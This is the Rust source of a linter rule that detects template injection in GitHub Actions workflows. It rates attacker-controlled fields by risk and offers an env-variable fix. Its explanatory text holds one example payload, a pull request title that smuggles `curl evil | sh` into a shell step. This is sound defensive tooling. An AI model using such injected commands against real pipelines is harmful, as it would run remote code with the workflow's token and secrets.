use crate::{Ctx, rule};
use shipshape_core::classify::FileKind;
use shipshape_core::project::Project;
use shipshape_core::{Confidence, Diagnostic, Severity};
use shipshape_knowledge::shell::Quote;
use shipshape_yaml::{NodeRef, Yaml};
use std::collections::{HashMap, HashSet};
use std::path::PathBuf;

rule! {
    code: "GHA002", name: "template-injection", severity: Error, category: Security, default: true, fix: Unsafe,
    peers: ["zizmor:template-injection", "checkov:CKV_GHA_2", "actionlint:expression"], options: [],
    summary: "Attacker-controlled values expanded into a shell script or github-script",
    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence, and label, milestone and workflow names (set by people with triage access) and release fields such as `github.event.release.tag_name` or `.name` (only people with write access publish a release, and they can already run any code in the workflows) as info with medium confidence, shown when the rule is named. `inputs.X` of a `workflow_dispatch` or `workflow_call` input of type `string` may be free text too. A `workflow_call` input is judged by what this repository's own callers (jobs with `uses: ./.github/workflows/<this file>`) pass to it under `with:`, as if they expanded it in `run:`: an outsider-set value (`github.event.pull_request.title`) makes it an error that names the caller, a value people with triage access set is a warning with medium confidence (write access, and the caller's own string input passed on: info); when every caller passes values no outsider chooses (numbers, SHAs, matrix values, job outputs) it is not flagged, since a caller in another repository runs the workflow with its own token and secrets and gains nothing by injecting. With no caller in the repository (or no repository to read) it is free text from whoever calls the workflow, which runs it with its own token and secrets: info with medium confidence. A `workflow_dispatch` input is info with medium confidence, shown when the rule is named (starting the workflow takes write access, which can already run any code). `boolean`, `number`, `choice` and `environment` inputs, and composite actions' untyped inputs, are not flagged. In a job whose `if:` keeps forks out (`head.repo.fork == false`, `head.repo.full_name == github.repository`), pull request fields are set by people with write access: info. In a workflow that only pull requests, pushes, merge queues, manual runs and schedules start, a fork's pull request runs its own copy with a read-only token and no secrets, so an outsider gains nothing by injecting: info with medium confidence, shown when the rule is named.",
    why: "The expression is pasted into the script before the shell runs it, so a pull request titled `\"; curl evil | sh #` runs that command with the workflow's token and secrets.",
    example: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${{ github.event.issue.title }}\"",
    instead: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${ISSUE_TITLE}\"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}",
    fix_safety: "Unsafe: moves the value into the step's `env:` and uses it where the expression was (in `run:` only), quoted for the place so the script reads the same text: `\"${NAME}\"` outside quotes, `${NAME}` in double quotes, `'\"${NAME}\"'` inside single quotes, `${env:NAME}` in PowerShell. No fix inside a quoted here-document (`<<'EOF'`) or a PowerShell single-quoted string, which expand nothing: write the value out with `printf '%s' \"$NAME\"` instead.",
    refs: "- https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections\n- https://docs.zizmor.sh/audits/#template-injection",
    spans: ["${{ github.event.issue.title }}"],
}

/// Trailing fields of `github.event` that an outsider writes.
const DANGEROUS_SUFFIXES: &[&str] = &[
    "title",
    "body",
    "message",
    "name",
    "email",
    "label",
    "ref",
    "head_ref",
    "head_branch",
    "display_title",
    "default_branch",
    "page_name",
    "description",
    "text",
];

/// Fields of `github.event` that only people with triage or write access set: label and milestone
/// names (wherever the event lists them), workflow names.
fn maintainer_set(rest: &[&str]) -> bool {
    let Some(&last) = rest.last() else { return false };
    (rest
        .first()
        .is_some_and(|s| matches!(*s, "label" | "milestone" | "workflow_run" | "workflow"))
        // A label (its name, description or the whole list in `toJSON(...labels)`) is made by
        // people with triage access.
        || rest.contains(&"labels"))
        && !matches!(last, "head_branch" | "display_title" | "message" | "email")
        && !rest.contains(&"head_commit")
}

/// Who sets a field of `github.event` that no outsider can: people with write access (a release's
/// tag, name and notes: only they publish one) or with triage access (see [`maintainer_set`]).
fn maintainer_access(rest: &[&str]) -> Option<&'static str> {
    if rest.first() == Some(&"release") && rest.len() > 1 {
        return Some("write");
    }
    // A `repository_dispatch`'s `client_payload` is sent with a token that has write access to the
    // repository (ehrbase's Pact branch, judged wrong as an outsider's, the forty-seventh sample).
    if rest.first() == Some(&"client_payload") {
        return Some("write");
    }
    // A deployment (its environment, ref, task, description, payload) is created through the API
    // with write access (the `deployment` and `deployment_status` events: Wellcome Collection's
    // accessibility check, judged wrong as an outsider's, the fifty-first sample).
    if rest.first() == Some(&"deployment") && rest.len() > 1 {
        return Some("write");
    }
    // The top-level `ref` (and `base_ref`) of the events that carry one (`push`, `create`,
    // `delete`, `workflow_dispatch`) is a branch or tag someone pushed or picked in this
    // repository: only people with write access do (signoz's `github.event.ref`, judged wrong, the
    // thirty-second sample). A pull request's payload has no top-level `ref`.
    if matches!(rest, ["ref"] | ["base_ref"]) {
        return Some("write");
    }
    maintainer_set(rest).then_some("triage")
}

/// The severity of a value only maintainers set: people with write access can already run any code
/// in the repository's workflows, so what they set is hygiene (info, shown when the rule is named:
/// judged not worth a default finding in the sixteenth sample); triage access is less than that, so
/// a label name reaching a script is a warning.
fn maintainer_severity(access: &str) -> Severity {
    if access == "write" { Severity::Info } else { Severity::Warning }
}

/// The access of whoever sets a context path only maintainers set (see [`maintainer_access`]).
fn set_by_maintainers(path: &[String]) -> Option<&'static str> {
    let p: Vec<&str> = path.iter().map(String::as_str).collect();
    match p.as_slice() {
        ["github", "event", rest @ ..] => maintainer_access(rest),
        _ => None,
    }
}

/// How dangerous a context path is: `Some(High)`, `Some(Medium)`, or `None` when safe or unknown.
pub fn injection_risk(path: &[String]) -> Option<Confidence> {
    let p: Vec<&str> = path.iter().map(String::as_str).collect();
    match p.as_slice() {
        ["github", "head_ref"] => Some(Confidence::High),
        ["github", "event", rest @ ..] => {
            let last = *rest.last()?;
            let trusted_owner = rest.first().is_some_and(|s| {
                matches!(
                    *s,
                    "repository" | "sender" | "pusher" | "installation" | "organization" | "enterprise" | "inputs" | "schedule"
                )
            });
            let safe_leaf = matches!(
                last,
                "sha"
                    | "id"
                    | "number"
                    // Counts and states GitHub computes (the error audit, 2026-12-05).
                    | "additions"
                    | "deletions"
                    | "changed_files"
                    | "comments"
                    | "review_comments"
                    | "mergeable"
                    | "mergeable_state"
                    | "rebaseable"
                    | "maintainer_can_modify"
                    | "node_id"
                    | "merged"
                    | "draft"
                    | "prerelease"
                    | "size"
                    | "created_at"
                    | "updated_at"
                    // Timestamps GitHub writes (anything-llm's `workflow_run.run_started_at`,
                    // judged wrong, the thirty-second sample).
                    | "run_started_at"
                    // A run's outcome and event: one of GitHub's fixed words (whoogle's
                    // `workflow_run.conclusion`, judged wrong, the thirty-fourth sample).
                    | "conclusion"
                    | "event"
                    | "closed_at"
                    | "merged_at"
                    | "pushed_at"
                    | "state"
                    | "action"
                    | "html_url"
                    | "url"
                    | "ref_type"
                    | "forced"
                    | "private"
                    | "before"
                    | "after"
                    | "login"
                    | "type"
                    | "timestamp"
                    // A repository's `owner/name`: GitHub allows only letters, digits, `-`, `_`, `.`.
                    | "full_name"
                    // Booleans GitHub sets.
                    | "created"
                    | "deleted"
                    | "locked"
                    | "fork"
                    // One of OWNER, MEMBER, COLLABORATOR, CONTRIBUTOR, FIRST_TIMER, NONE…
                    | "author_association"
                    // GitHub accounts (logins, ids, URLs: no shell syntax), set by triage access
                    // (longhorn's `toJSON(github.event.issue.assignees)`, judged wrong).
                    | "assignee"
                    | "assignees"
                    | "requested_reviewers"
            ) || (last == "name" && rest.len() >= 2 && matches!(rest[rest.len() - 2], "repo" | "repository"))
                // The name of the workflow that ran: from a workflow file on the repository, which
                // only people with write access change (the thirty-second sample).
                || (rest == ["workflow_run", "name"] || rest == ["workflow", "name"])
                // `pull_request.commits` is the commit count commitlint's recipe expands (a push's
                // `commits` is the array of commits, messages and all).
                || (last == "commits" && rest.len() >= 2 && rest[rest.len() - 2] == "pull_request");
            let maintainer_set = maintainer_access(rest).is_some();
            // A pull request's base is a branch of the base repository: only people who can push
            // there name it (autoscaler's `--target-branch ${{ …base.ref }}`, judged wrong).
            let base_branch = rest.len() >= 3 && rest[rest.len() - 2] == "base" && matches!(last, "ref" | "label");
            if trusted_owner || safe_leaf || base_branch || last.ends_with("_sha") {
                None
            } else if maintainer_set {
                Some(Confidence::Medium)
            } else if DANGEROUS_SUFFIXES.contains(&last) || rest.iter().any(|s| matches!(*s, "commits" | "head_commit" | "pages")) {
                Some(Confidence::High)
            } else {
                Some(Confidence::Medium)
            }
        }
        _ => None,
    }
}

/// An environment variable name for a context path: its last two segments, upper-cased.
fn env_name(path: &[String]) -> String {
    let tail: Vec<&str> = path.iter().rev().take(2).rev().map(String::as_str).collect();
    tail.join("_")
        .to_ascii_uppercase()
        .replace(|c: char| !c.is_ascii_alphanumeric(), "_")
}

/// The free-text inputs of a workflow: `workflow_dispatch` and `workflow_call` inputs of type
/// `string` (or with no type, which `workflow_dispatch` reads as `string`), lower-cased, by the
/// event that declares them. `boolean`, `number`, `choice` and `environment` inputs can only hold
/// what their type allows.
#[derive(Default)]
struct StringInputs {
    dispatch: Vec<String>,
    call: Vec<String>,
}

impl StringInputs {
    fn of(root: NodeRef) -> Self {
        let mut out = Self::default();
        for (event, node) in crate::model::triggers(root) {
            let names = match event.as_str() {
                "workflow_dispatch" => &mut out.dispatch,
                "workflow_call" => &mut out.call,
                _ => continue,
            };
            for (k, v) in node.get("inputs").map(|i| i.entries()).unwrap_or_default() {
                let ty = v.get("type").and_then(|t| t.as_str()).unwrap_or("string");
                if let Some(name) = k.as_str()
                    && ty.eq_ignore_ascii_case("string")
                {
                    names.push(name.to_ascii_lowercase());
                }
            }
        }
        out
    }

    /// The string input `inputs.X` / `github.event.inputs.X` reads, lower-cased, with whether
    /// `workflow_dispatch` and `workflow_call` declare it.
    fn read_by(&self, path: &[String]) -> Option<(String, bool, bool)> {
        let name = match path {
            [ctx, name] if ctx.eq_ignore_ascii_case("inputs") => name,
            [gh, ev, ctx, name] if gh == "github" && ev == "event" && ctx == "inputs" => name,
            _ => return None,
        };
        let name = name.to_ascii_lowercase();
        let (d, c) = (self.dispatch.contains(&name), self.call.contains(&name));
        (d || c).then_some((name, d, c))
    }
}

/// A value a workflow of this repository passes to a `workflow_call` input of a local reusable
/// workflow (`uses: ./.github/workflows/x.yml` + `with:`) that may hold text its author did not
/// choose.
#[derive(Clone, Debug)]
struct Passed {
    /// The calling file, relative to the repository root.
    caller: String,
    /// The input, lower-cased.
    input: String,
    /// The context path the value expands.
    what: String,
    /// Who sets it, for the message.
    who: String,
    severity: Severity,
    confidence: Confidence,
}

/// The repository's calls of its own reusable workflows: for each called file (canonical path),
/// the calling files and the values they pass that may hold attacker text.
#[derive(Default)]
struct Callers {
    /// For each called file: the calling files, what they pass, and whether any caller runs on a
    /// privileged trigger (see [`privileged_triggers`]).
    by_callee: HashMap<PathBuf, (Vec<String>, Vec<Passed>, bool)>,
}

/// Whether outsiders' text can meet secrets or a write token in a workflow run by `triggers`: any
/// trigger other than a plain pull request, push, merge queue, manual run or schedule (a fork's
/// pull request runs its own copy with a read-only token and no secrets).
fn privileged_triggers<'a>(mut triggers: impl Iterator<Item = &'a str>) -> bool {
    triggers.any(|t| !matches!(t, "pull_request" | "push" | "merge_group" | "workflow_dispatch" | "schedule"))
}

impl Callers {
    /// Read every workflow in `<root>/.github/workflows/` through the run's tree.
    fn of(project: &Project) -> Self {
        let tree = project.tree();
        let dir = project.root.join(".github").join("workflows");
        let mut out = Self::default();
        for file in project.of_kind(&[FileKind::GithubWorkflow]) {
            if file.parent() != Some(dir.as_path()) {
                continue;
            }
            let Some(text) = tree.read(file) else { continue };
            let yaml = Yaml::parse(&text);
            let Some(root) = yaml.docs.first().and_then(|d| d.root()) else {
                continue;
            };
            let caller = file
                .strip_prefix(&project.root)
                .unwrap_or(file)
                .to_string_lossy()
                .replace('\\', "/");
            let own = StringInputs::of(root);
            let triggers = crate::model::triggers(root);
            let privileged = privileged_triggers(triggers.iter().map(|(t, _)| t.as_str()));
            for (_, job) in crate::model::jobs(root) {
                let Some((crate::model::Uses::Local(path), _)) = crate::model::uses_of(job) else {
                    continue;
                };
                let called = project.root.join(crate::model::local_path(path).unwrap_or(path));
                let key = tree.canonicalize(&called).unwrap_or(called);
                let entry = out.by_callee.entry(key).or_default();
                entry.0.push(caller.clone());
                entry.2 |= privileged;
                for (k, v) in job.get("with").map(|w| w.entries()).unwrap_or_default() {
                    let (Some(input), Some(value)) = (k.as_str(), v.as_str()) else {
                        continue;
                    };
                    for e in crate::expr::embedded(value) {
                        let Ok(parsed) = crate::expr::parse(e.inner) else { continue };
                        for (path, _, _) in parsed.expanded_paths() {
                            if let Some(p) = passed(&caller, input, path, &own) {
                                entry.1.push(p);
                            }
                        }
                    }
                }
            }
        }
        out
    }
}

/// What a caller's `with: <input>: ${{ <path> }}` passes on, judged as if it were expanded in the
/// caller's own `run:` (its own string inputs one level deep: free text from whoever runs or
/// calls the caller, a warning).
fn passed(caller: &str, input: &str, path: &[String], own: &StringInputs) -> Option<Passed> {
    // The caller's own input passed on is set by whoever runs it by hand (write access) or calls it
    // from another repository (with its own token): info, as those inputs are (kubescape's and
    // firezone's chains, judged not worth a default finding).
    let (severity, confidence, who) = if own.read_by(path).is_some() {
        (
            Severity::Info,
            Confidence::Medium,
            "is free text from whoever runs or calls it".to_owned(),
        )
    } else {
        let confidence = injection_risk(path)?;
        match set_by_maintainers(path) {
            Some(access) => (
                maintainer_severity(access),
                confidence,
                format!("is set by people with {access} access"),
            ),
            None => (meta().severity, confidence, "can be set by an outsider".to_owned()),
        }
    };
    Some(Passed {
        caller: caller.to_owned(),
        input: input.to_ascii_lowercase(),
        what: path.join("."),
        who,
        severity,
        confidence,
    })
}

/// What the repository's callers pass to this workflow: `None` when no workflow of the repository
/// calls it, or the repository cannot be read.
fn callers_of(cx: &Ctx) -> Option<Vec<Passed>> {
    let path = cx.file.path.as_deref()?;
    let project = cx.core.projects.of(path)?;
    let key = cx.core.tree().canonicalize(path).unwrap_or_else(|| path.to_path_buf());
    let callers = project.fact(Callers::of);
    let (files, passed, _) = callers.by_callee.get(&key)?;
    (!files.is_empty()).then(|| passed.clone())
}

/// Whether a workflow of this repository that calls this one runs on a privileged trigger: `None`
/// when none calls it (another repository's caller runs it with its own token, on its own
/// trigger), or the repository cannot be read.
fn called_privileged(cx: &Ctx) -> Option<bool> {
    let path = cx.file.path.as_deref()?;
    let project = cx.core.projects.of(path)?;
    let key = cx.core.tree().canonicalize(path).unwrap_or_else(|| path.to_path_buf());
    let callers = project.fact(Callers::of);
    let (files, _, privileged) = callers.by_callee.get(&key)?;
    (!files.is_empty()).then_some(*privileged)
}

/// Whether a job's `if:` reads an output of a job it needs that is computed from the pull request's
/// head repository (`head.repo.full_name`, `head.repo.fork`): a fork check run first, in this file
/// or in a local reusable workflow that job calls (teslamate's `check_if_pr_from_outside_repo.yml`,
/// judged wrong as an outsider's input, the twenty-fifth sample).
fn gated_by_fork_check(cx: &Ctx, job: NodeRef) -> bool {
    let Some(cond) = job.get("if").and_then(|c| c.as_text()) else {
        return false;
    };
    let jobs = crate::model::jobs(cx.root);
    let checks_fork = |text: &str| text.contains("head.repo.full_name") || text.contains("head.repo.fork");
    cond.match_indices("needs.").any(|(at, _)| {
        let rest = &cond[at + 6..];
        let id: String = rest
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_' || *c == '-')
            .collect();
        if !rest[id.len()..].starts_with(".outputs.") {
            return false;
        }
        let Some((_, needed)) = jobs.iter().find(|(k, _)| k.as_str() == Some(id.as_str())) else {
            return false;
        };
        if let Some(crate::model::Uses::Local(path)) = crate::model::uses_of(*needed).map(|(u, _)| u) {
            let root = cx.file.path.as_deref().and_then(crate::model::checkout_root);
            return root
                .and_then(|r| cx.core.tree().read(&r.join(crate::model::local_path(path).unwrap_or(path))))
                .is_some_and(|t| checks_fork(&t));
        }
        checks_fork(needed.span().text(cx.src))
    })
}

/// Whether a context path is text an outsider writes (an issue or pull request title or body, a
/// comment, a branch name): not a number, a SHA, nor what only maintainers set.
pub fn outsider_text(path: &[String]) -> bool {
    injection_risk(path).is_some() && set_by_maintainers(path).is_none()
}

/// How a finding on an expanded input reads: severity, confidence and message.
type Verdict = (Severity, Confidence, String);

/// The verdict on `inputs.X` / `github.event.inputs.X` expanded into `what:`, or `None` when it is
/// not a string input or nobody who could inject calls or runs the workflow. A `workflow_call`
/// input is as dangerous as what this repository's callers pass to it (a caller in another
/// repository runs the workflow with its own token and secrets: it gains nothing by injecting);
/// with no caller here it is free text from whoever calls it, a warning. A `workflow_dispatch`
/// input is set by someone with write access: a warning.
fn input_verdict(path: &[String], inputs: &StringInputs, callers: &Option<Vec<Passed>>, what: &str) -> Option<Verdict> {
    let (name, dispatch, call) = inputs.read_by(path)?;
    let written = path.join(".");
    if call {
        // With no caller in the repository, the caller is another repository's workflow: it runs
        // this one with its own token and secrets, so what its author passes is their own code
        // (nautobot's plugin test workflow, judged not worth a default finding): info.
        let Some(passed) = callers else {
            let who = if dispatch { "runs or calls" } else { "calls" };
            return Some((
                Severity::Info,
                Confidence::Medium,
                format!("`{written}` is free text from whoever {who} the workflow and is expanded straight into `{what}:`"),
            ));
        };
        let worst = passed
            .iter()
            .filter(|p| p.input == name)
            .max_by_key(|p| (p.severity == Severity::Error, p.confidence == Confidence::High));
        if let Some(p) = worst {
            return Some((
                p.severity,
                p.confidence,
                format!(
                    "`{}` passes `{}`, which {}, as `{written}`, and it is expanded straight into `{what}:`",
                    p.caller, p.what, p.who
                ),
            ));
        }
    }
    // Only people with write access run a workflow by hand: hygiene (see `maintainer_severity`).
    dispatch.then(|| {
        (
            Severity::Info,
            Confidence::Medium,
            format!("`{written}` is free text from whoever runs the workflow and is expanded straight into `{what}:`"),
        )
    })
}

fn model_triggers(cx: &Ctx) -> Vec<String> {
    crate::model::triggers(cx.root).into_iter().map(|(t, _)| t).collect()
}

/// The triggers whose payload holds `github.event.<field>`, for the fields an injection comes from.
fn payload_triggers(field: &str) -> Option<&'static [&'static str]> {
    Some(match field {
        "workflow_run" => &["workflow_run"],
        "pull_request" => &[
            "pull_request",
            "pull_request_target",
            "pull_request_review",
            "pull_request_review_comment",
        ],
        "issue" => &["issues", "issue_comment"],
        "comment" => &[
            "issue_comment",
            "pull_request_review_comment",
            "commit_comment",
            "discussion_comment",
        ],
        "review" => &["pull_request_review"],
        "discussion" => &["discussion", "discussion_comment"],
        "head_commit" | "commits" => &["push"],
        _ => return None,
    })
}

/// Whether the runs in which `path` holds a value can be privileged: only the triggers that carry
/// it count (`github.head_ref` is set by pull request events alone, so a `release:` trigger beside
/// `pull_request:` gives an injection through it nothing: nym's config checker, judged wrong as an
/// error, the seventieth sample). `privileged` is the workflow's verdict, kept where the carriers
/// are not known or the workflow is called by others.
fn privileged_for(path: &[String], privileged: bool, triggers: Option<&[String]>) -> bool {
    let Some(triggers) = triggers.filter(|t| !t.iter().any(|t| t == "workflow_call")) else {
        return privileged;
    };
    let carriers: Option<&[&str]> = match path {
        [github, head_ref] if github.eq_ignore_ascii_case("github") && head_ref == "head_ref" => {
            Some(&["pull_request", "pull_request_target"])
        }
        [github, event, field, ..] if github.eq_ignore_ascii_case("github") && event == "event" => payload_triggers(field),
        _ => None,
    };
    match carriers {
        Some(c) => privileged_triggers(triggers.iter().map(String::as_str).filter(|t| c.contains(t))),
        None => privileged,
    }
}

/// Whether `github.event.<field>…` is empty in every run of this workflow: no trigger of it carries
/// that payload (changedetection.io expands `workflow_run.head_branch` with its `workflow_run:`
/// trigger commented out). A reusable workflow gets its caller's event, and an action any event.
fn never_set(path: &[String], triggers: Option<&[String]>) -> bool {
    let Some(triggers) = triggers else { return false };
    if triggers.iter().any(|t| t == "workflow_call") || path.len() < 3 || !path[0].eq_ignore_ascii_case("github") || path[1] != "event" {
        return false;
    }
    payload_triggers(&path[2]).is_some_and(|carry| !triggers.iter().any(|t| carry.contains(&t.as_str())))
}

/// Whether `github.event.workflow_run.head_branch` can only be one of the branch names the
/// `workflow_run` trigger's `branches:` filter lists (no pattern): the filter matches the head
/// branch of the run that triggered it (whoogle's `branches: [main, updates]`, judged wrong as an
/// error, the thirty-fourth sample).
fn branch_filtered(root: shipshape_yaml::NodeRef<'_>, path: &[String]) -> bool {
    let p: Vec<&str> = path.iter().map(String::as_str).collect();
    if !matches!(p.as_slice(), ["github", "event", "workflow_run", "head_branch"]) {
        return false;
    }
    crate::model::triggers(root)
        .into_iter()
        .find(|(t, _)| t == "workflow_run")
        .and_then(|(_, node)| node.get("branches"))
        .map(|b| b.scalar_or_items())
        .is_some_and(|items| {
            !items.is_empty()
                && items
                    .iter()
                    .all(|i| i.as_str().is_some_and(|b| !b.is_empty() && !b.contains(['*', '?', '[', '!', '+'])))
        })
}

/// Whether `github.event.workflow_run.…` describes a run of workflows only maintainers start
/// (`release`, `push`, `schedule`, by hand): its branch and commit are theirs (karmada's Helm
/// index update after "Build Release", run on published releases; judged wrong as an error, the
/// sixty-fifth sample).
fn from_trusted_run(cx: &Ctx, path: &[String]) -> bool {
    path.len() > 3
        && path[0].eq_ignore_ascii_case("github")
        && path[1] == "event"
        && path[2] == "workflow_run"
        && cx.follows_only_trusted_runs()
}

fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
    // Whether outsiders' text can meet secrets or a write token: any trigger other than a plain
    // pull request or push (a reusable workflow or an action gets its caller's).
    // A `workflow_call` trigger runs on its caller's: privileged when a caller in this repository
    // is, and not known to be when none calls it (teslamate's `ghcr_purge.yml`, run by its pull
    // requests; judged the twenty-fifth sample).
    let triggers_now = model_triggers(cx);
    let privileged = !cx.is_workflow()
        || privileged_triggers(triggers_now.iter().map(String::as_str).filter(|t| *t != "workflow_call"))
        || (triggers_now.iter().any(|t| t == "workflow_call") && called_privileged(cx).unwrap_or(cx.file.path.is_none()));
    let triggers: Option<Vec<String>> = cx
        .is_workflow()
        .then(|| crate::model::triggers(cx.root).into_iter().map(|(t, _)| t).collect::<Vec<_>>())
        .filter(|t| !t.is_empty());
    let inputs = if cx.is_workflow() {
        StringInputs::of(cx.root)
    } else {
        StringInputs::default()
    };
    // The repository's callers, read only when a `workflow_call` input is expanded.
    let callers = std::cell::OnceCell::new();
    for (job, step) in cx.steps() {
        // A job kept from forks' pull requests runs only on branches of people who can push: a
        // branch name or title there is set by them (kestra's translation job, judged wrong).
        let fork_excluded = job.is_some_and(|j| crate::model::excludes_forks(j) || gated_by_fork_check(cx, j));
        let mut scripts = Vec::new();
        if let Some(run) = step.get("run") {
            scripts.push(("run", run));
        }
        if crate::model::step_uses(step, "actions/github-script")
            && let Some(script) = step.get("with").and_then(|w| w.get("script"))
        {
            scripts.push(("script", script));
        }
        for (what, node) in scripts {
            let places = cx.literal_exprs(node);
            // One finding per expression text, at its first place, whose fix moves every place.
            let mut reported = HashSet::new();
            for e in cx.exprs_in(node) {
                // Only what reaches the expanded text: `${{ github.event.label.name == 'x' }}`
                // expands to `true` or `false`, whatever the label says.
                for (path, _, _) in e.parsed.expanded_paths() {
                    if never_set(path, triggers.as_deref()) || branch_filtered(cx.root, path) || from_trusted_run(cx, path) {
                        continue;
                    }
                    let verdict = if inputs.read_by(path).is_some() {
                        // An input nobody who could inject sets is not a finding: the next path.
                        let Some(mut v) = input_verdict(path, &inputs, callers.get_or_init(|| callers_of(cx)), what) else {
                            continue;
                        };
                        // Called only from workflows that pull requests and pushes run, a fork's
                        // branch name reaches a run with a read-only token and no secrets, as it
                        // would in the caller (opg-modernising-lpa's unit tests, judged wrong as
                        // an error, the fifty-second sample): a warning.
                        if v.0 == Severity::Error && called_privileged(cx) == Some(false) {
                            v.0 = Severity::Warning;
                        }
                        v
                    } else {
                        let Some(confidence) = injection_risk(path) else { continue };
                        let access = set_by_maintainers(path).or(fork_excluded.then_some("write"));
                        match access {
                            // Label names (triage access) and release fields (write access) are
                            // not set by outsiders: a warning.
                            Some(access) => (
                                maintainer_severity(access),
                                confidence,
                                format!(
                                    "`{}` is set by people with {access} access and is expanded straight into `{what}:`",
                                    path.join(".")
                                ),
                            ),
                            // In a workflow only pull requests and pushes run, a fork's pull
                            // request runs its own copy with a read-only token and no secrets:
                            // injecting gains an outsider nothing they lack (grist-core, judged
                            // wrong as an error; as a warning, 9 of 11 judged not worth a finding or
                            // wrong over the samples, dhis2-core's and psoxy's the fifty-eighth).
                            // Hygiene, shown when the rule is named; an error where the run is
                            // privileged.
                            None if !privileged_for(path, privileged, triggers.as_deref()) => (
                                Severity::Info,
                                Confidence::Medium,
                                format!(
                                    "`{}` can be set by an outsider and is expanded straight into `{what}:`",
                                    path.join(".")
                                ),
                            ),
                            None => (
                                meta().severity,
                                confidence,
                                format!(
                                    "`{}` can be set by an outsider and is expanded straight into `{what}:`",
                                    path.join(".")
                                ),
                            ),
                        }
                    };
                    let (severity, confidence, message) = verdict;
                    // An error must be a certainty: a medium-confidence one is a warning. So is one
                    // in a composite action: what an injection gains depends on the event of the
                    // workflow that uses it (a `pull_request` job loads the PR's own copy of a local
                    // action, so its author gains nothing: the forty-first sample).
                    let in_action = cx.kind == shipshape_core::classify::FileKind::GithubAction;
                    let severity = if (confidence == Confidence::Medium || in_action) && severity == Severity::Error {
                        Severity::Warning
                    } else {
                        severity
                    };
                    let written = e.base.map(|_| e.span.text(cx.src));
                    if !reported.insert(written.map_or_else(|| path.join("."), str::to_owned)) {
                        break;
                    }
                    let fix = written
                        .filter(|_| what == "run")
                        .and_then(|w| cx.env_fix(job, step, places.get(w).map_or(&[][..], Vec::as_slice), w, &env_name(path)));
                    // `cat <<'EOF'` expands nothing, but the runner pastes the value first.
                    let in_literal_heredoc = what == "run"
                        && cx
                            .run_script(node, true)
                            .is_some_and(|s| s.quote_at(e.span.start) == Quote::Heredoc { literal: true });
                    let help = if in_literal_heredoc {
                        "a quoted here-document (`<<'EOF'`) does not stop this: the runner pastes the value into the script before the shell reads it, and a line equal to the delimiter ends the here-document early. Pass it through `env:` and write it out with `printf '%s\\n' \"$VALUE\"`"
                    } else {
                        "pass it through `env:` (`env: VALUE: ${{ … }}`) and use `\"$VALUE\"` in the script"
                    };
                    out.push(
                        Diagnostic::new(meta(), e.span, message)
                            .severity(severity)
                            .help(help)
                            .confidence(confidence)
                            .maybe_fix(fix),
                    );
                    break;
                }
            }
        }
    }
}
